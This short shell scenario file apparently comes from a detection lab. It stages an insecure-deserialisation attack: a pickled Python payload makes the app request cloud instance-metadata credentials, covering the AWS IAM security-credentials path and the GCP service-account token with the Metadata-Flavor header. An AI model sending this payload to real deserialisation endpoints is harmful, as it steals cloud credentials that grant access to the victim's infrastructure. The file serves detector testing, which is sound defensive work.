# Insecure deserialisation in the app (see app-deserialize-exfil), the code reaching for the cloud's instance
# metadata service (169.254.169.254), where a node's credentials are handed to whoever asks (T1552.005): an HTTP
# request from the app's own process to the link-local address, first the AWS path then GCP's (no metadata service
# answers in the lab; the attempt is what a detector sees). No shell, no program.
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  app_unpickle "$WEB_PORT" "import urllib.request
for url, headers in (('http://169.254.169.254/latest/meta-data/iam/security-credentials/', {}),
                     ('http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token',
                      {'Metadata-Flavor': 'Google'})):
    try:
        urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=1).read()
    except OSError:
        pass"
}
